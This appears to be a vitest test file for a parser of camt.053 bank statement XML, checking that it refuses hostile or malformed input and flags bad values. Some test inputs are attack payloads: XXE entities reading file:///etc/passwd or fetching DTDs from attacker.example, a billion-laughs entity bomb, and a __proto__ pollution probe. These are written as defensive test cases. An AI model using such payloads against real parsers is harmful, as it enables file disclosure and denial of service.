import { describe, expect, it } from 'vitest';
import { parseStatementFile, MAX_STATEMENT_FILE_BYTES } from '../statement/parseStatementFile.js';
import { readFixture } from '../../../test/fixtures/domain/vectors.js';

const dayEnd = readFixture('camt053-v08-dayend.xml');

/** The day-end fixture with one exact piece replaced (the piece must be there, or the test proves nothing). */
function changed(from: string | RegExp, to: string): string {
  expect(dayEnd).toMatch(from);
  return dayEnd.replace(from, to);
}

async function read(xml: string) {
  return (await parseStatementFile(new TextEncoder().encode(xml))).statements;
}

describe('camt input that is hostile or malformed', () => {
  describe('when the file declares entities (billion laughs, XXE)', () => {
    const lol = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>';
    it.each([
      ['a billion-laughs DTD', changed('<Document', `${lol}<Document`).replace('<MsgId>EOD-20250612</MsgId>', '<MsgId>&lol2;</MsgId>')],
      ['an external entity', changed('<Document', '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Document').replace('<MsgId>EOD-20250612</MsgId>', '<MsgId>&xxe;</MsgId>')],
      ['a parameter entity', changed('<Document', '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><Document')],
      ['an external DTD', changed('<Document', '<!DOCTYPE Document SYSTEM "http://attacker.example/camt.dtd"><Document')],
      ['a lower-case doctype', changed('<Document', '<!doctype Document><Document')],
      ['a bare ENTITY declaration', changed('<Document', '<!ENTITY x "y"><Document')],
    ])('refuses %s with DOMAIN_UNSAFE_XML', async (_, xml) => {
      await expect(read(xml)).rejects.toMatchObject({ code: 'DOMAIN_UNSAFE_XML' });
    });
  });

  describe('when the XML itself is broken', () => {
    it.each([
      ['a mismatched closing tag', changed('</Stmt>', '</Stmnt>'), 'expected well-formed XML (</Stmt>), found </Stmnt> at line 175'],
      ['an undefined entity', changed('<MsgId>EOD-20250612</MsgId>', '<MsgId>&nbsp;</MsgId>'), 'only the predefined entities'],
      ['a bare ampersand', changed('Beispiel Handel GmbH</Nm></Pty></Dbtr>', 'Beispiel & Handel GmbH</Nm></Pty></Dbtr>'), 'a bare &'],
      ['two roots', `${dayEnd}<Document/>`, 'one root element'],
      ['text after the root', `${dayEnd}trailing`, 'only white space outside the root element'],
      ['an unquoted attribute', changed('<Amt Ccy="EUR">45.50</Amt>', '<Amt Ccy=EUR>45.50</Amt>'), 'an attribute value in quotes'],
      ['an unclosed element', dayEnd.replace('</Document>', ''), 'found the end of the file'],
      ['an undeclared prefix', changed('<BkToCstmrStmt>', '<x:BkToCstmrStmt>').replace('</BkToCstmrStmt>', '</x:BkToCstmrStmt>'), 'expected namespace prefix "x" to be declared'],
      ['a foreign namespace inside the Document', changed('<Ntry>', '<Ntry xmlns="urn:attacker">'), 'expected only elements of camt.053.001.08 inside Document, found Ntry in another namespace'],
      ['nesting deeper than any statement', changed('<AddtlNtryInf>SEPA-Gutschrift', `${'<x>'.repeat(200)}${'</x>'.repeat(200)}<AddtlNtryInf>SEPA-Gutschrift`), 'nesting of at most 100 elements'],
    ])('refuses %s with DOMAIN_BAD_STATEMENT naming the problem', async (_, xml, message) => {
      await expect(read(xml)).rejects.toMatchObject({ code: 'DOMAIN_BAD_STATEMENT' });
      await expect(read(xml)).rejects.toThrow(message);
    });

    it('reads a __proto__ element as an unknown element, polluting nothing', async () => {
      const [statement] = await read(changed('<AddtlNtryInf>SEPA-Gutschrift', '<__proto__><polluted>yes</polluted></__proto__><AddtlNtryInf>SEPA-Gutschrift'));
      expect(statement?.entries).toHaveLength(6);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });

    it('refuses a file above the size limit before reading it', async () => {
      const huge = new Uint8Array(1);
      Object.defineProperty(huge, 'length', { value: MAX_STATEMENT_FILE_BYTES + 1 });
      await expect(parseStatementFile(huge)).rejects.toThrow(`expected a statement file of at most ${MAX_STATEMENT_FILE_BYTES} bytes`);
    });
  });

  describe('when a required value is wrong', () => {
    it.each([
      ['an amount with a thousands comma', changed('<Amt Ccy="EUR">45.50</Amt>', '<Amt Ccy="EUR">10,000.00</Amt>'), 'Stmt[0]/Ntry[0]/Amt: expected a decimal amount such as 1234.56 (digits, "." decimals, no sign or separators), found a comma in it'],
      ['a negative amount', changed('<Amt Ccy="EUR">45.50</Amt>', '<Amt Ccy="EUR">-45.50</Amt>'), 'Stmt[0]/Ntry[0]/Amt: expected a decimal amount'],
      ['an amount with an exponent', changed('<Amt Ccy="EUR">45.50</Amt>', '<Amt Ccy="EUR">1e308</Amt>'), 'Stmt[0]/Ntry[0]/Amt'],
      ['more precision than the currency has', changed('<Amt Ccy="EUR">45.50</Amt>', '<Amt Ccy="EUR">45.505</Amt>'), 'Stmt[0]/Ntry[0]/Amt: expected at most 2 decimals for EUR, found 3'],
      ['an amount beyond the limit', changed('<Amt Ccy="EUR">45.50</Amt>', '<Amt Ccy="EUR">9999999999999.00</Amt>'), 'expected at most 12 digits before the decimal point, found 13'],
      ['an unknown currency', changed('<Amt Ccy="EUR">45.50</Amt>', '<Amt Ccy="XTS">45.50</Amt>'), 'Stmt[0]/Ntry[0]/Amt: expected a supported ISO 4217 currency code, found "XTS"'],
      ['a missing amount', changed('<Amt Ccy="EUR">45.50</Amt>', ''), 'expected one element Stmt[0]/Ntry[0]/Amt, found none'],
      ['a repeated amount', changed('<Amt Ccy="EUR">45.50</Amt>', '<Amt Ccy="EUR">45.50</Amt><Amt Ccy="EUR">0.01</Amt>'), 'expected one element Stmt[0]/Ntry[0]/Amt, found 2'],
      ['a wrong credit/debit code', changed('<CdtDbtInd>DBIT</CdtDbtInd>\n        <Sts>', '<CdtDbtInd>BOTH</CdtDbtInd>\n        <Sts>'), 'expected CRDT or DBIT in Stmt[0]/Ntry[0]/CdtDbtInd, found "BOTH"'],
      ['a missing status', changed(/<Sts><Cd>BOOK<\/Cd><\/Sts>/, ''), 'expected one element Stmt[0]/Ntry[0]/Sts, found none'],
      ['no account', changed('<Id><IBAN>DE02120300000000202051</IBAN></Id>', '<Id></Id>'), 'expected Stmt[0]/Acct/Id/IBAN or Id/Othr/Id, found neither'],
      ['no statement', changed(/<Stmt>[\s\S]*<\/Stmt>/, ''), 'expected at least one Stmt in BkToCstmrStmt, found none'],
      ['a booked entry without any date', changed(/<BookgDt><Dt>2025-06-12<\/Dt><\/BookgDt>\s*<ValDt><Dt>2025-06-12<\/Dt><\/ValDt>/, ''), 'expected Stmt[0]/Ntry[0]/BookgDt or ValDt on a booked entry, found neither'],
    ])('refuses %s with DOMAIN_BAD_STATEMENT naming the element', async (_, xml, message) => {
      await expect(read(xml)).rejects.toMatchObject({ code: 'DOMAIN_BAD_STATEMENT' });
      await expect(read(xml)).rejects.toThrow(message);
    });

    it('reads "01.00", "+5", "7." and trailing zeros as the schema allows', async () => {
      const xml = changed('<Amt Ccy="EUR">45.50</Amt>', '<Amt Ccy="EUR">045.5000</Amt>');
      expect((await read(xml))[0]?.entries[0]?.amount.minor).toBe(-4550);
    });
  });

  describe('when an optional value is wrong', () => {
    it('keeps a counterparty IBAN with wrong check digits as text, with a warning, and books the entry', async () => {
      const [statement] = await read(changed('<IBAN>DE44500105175407324931</IBAN>', '<IBAN>DE44500105175407324932</IBAN>'));
      expect(statement?.entries[3]?.counterparty).toMatchObject({ iban: null, account: 'DE44500105175407324932' });
      expect(statement?.warnings).toEqual([expect.objectContaining({ code: 'IBAN_KEPT_AS_TEXT', where: 'Stmt[0]/Ntry[3]/NtryDtls/TxDtls/RltdPties/DbtrAcct/Id/IBAN' })]);
      expect(statement?.warnings[0]?.message).not.toContain('DE44500105175407324932');
    });

    it('removes control characters and bidirectional overrides from text, with a warning', async () => {
      const [statement] = await read(changed('<Nm>Beispiel Handel GmbH</Nm>', '<Nm>Beispiel\u001b[2J Handel &#x202E;HbmG</Nm>'));
      expect(statement?.entries[3]?.counterparty?.name).toBe('Beispiel[2J Handel HbmG');
      expect(statement?.warnings.map((w) => w.code)).toEqual(['TEXT_CLEANED']);
    });

    it('leaves an impossible value date empty, with a warning', async () => {
      const [statement] = await read(changed('<ValDt><Dt>2025-06-12</Dt></ValDt>', '<ValDt><Dt>2025-02-30</Dt></ValDt>'));
      expect(statement?.entries[0]?.valueDate).toBeNull();
      expect(statement?.warnings).toEqual([expect.objectContaining({ code: 'VALUE_IGNORED', where: 'Stmt[0]/Ntry[0]/ValDt' })]);
    });

    it('books an entry without a booking date on its value date, with a warning', async () => {
      const [statement] = await read(changed('<BookgDt><Dt>2025-06-12</Dt></BookgDt>', ''));
      expect(statement?.entries[0]?.bookingDate).toBe('2025-06-12');
      expect(statement?.warnings.map((w) => w.code)).toEqual(['VALUE_IGNORED']);
    });
  });
});
